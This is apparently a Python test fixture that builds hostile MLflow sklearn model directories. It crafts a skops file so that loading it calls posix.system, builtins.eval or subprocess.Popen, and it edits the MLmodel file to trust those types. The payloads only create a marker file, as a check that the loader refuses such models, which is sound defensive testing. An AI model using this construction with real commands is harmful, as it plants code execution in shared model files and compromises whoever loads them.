"""Hostile model artifacts: MLflow sklearn model directories whose skops file runs code when
loaded with the types its own MLmodel asks skops to trust (the attack of issue 16).

The payload is a skops ``ConstructorFromReduceNode``: loading calls ``<module>.<name>(*args)``,
so trusting ``posix.system`` runs a shell command, ``builtins.eval`` evaluates Python,
``subprocess.Popen`` starts a process. Each payload creates ``marker`` when it runs; an unknown
type names a module that does not exist (nothing can run, but it must be refused all the same).
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

HOSTILE_TYPES = ("posix.system", "builtins.eval", "subprocess.Popen", "churnops_evil.payload.Thing")


def _payload_args(kind: str, marker: Path) -> object:
    if kind == "posix.system":
        return (f"touch {marker}",)
    if kind == "builtins.eval":
        return (f"open({str(marker)!r}, 'w').close()",)
    if kind == "subprocess.Popen":
        return (["touch", str(marker)],)
    return ("anything",)


def hostile_skops(kind: str, marker: Path) -> bytes:
    """A skops file whose loading calls ``kind`` with arguments that create ``marker``."""
    import skops.io

    args = skops.io.dumps(_payload_args(kind, marker))
    schema = json.loads(zipfile.ZipFile(io.BytesIO(args)).read("schema.json"))
    header = {key: schema.pop(key) for key in ("protocol", "_skops_version")}
    module, _, name = kind.rpartition(".")
    payload = {
        **header,
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": schema,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("schema.json", json.dumps(payload))
    return buffer.getvalue()


def hostile_model_dir(*, template: Path, kind: str, marker: Path, dst: Path) -> Path:
    """A copy of a genuine model directory (``template``) whose model.skops is the payload and
    whose MLmodel asks skops to trust ``kind``."""
    import yaml

    shutil.copytree(template, dst)
    (dst / "model.skops").write_bytes(hostile_skops(kind, marker))
    mlmodel = yaml.safe_load((dst / "MLmodel").read_text())
    mlmodel["flavors"]["sklearn"]["skops_trusted_types"] = [kind]
    (dst / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return dst
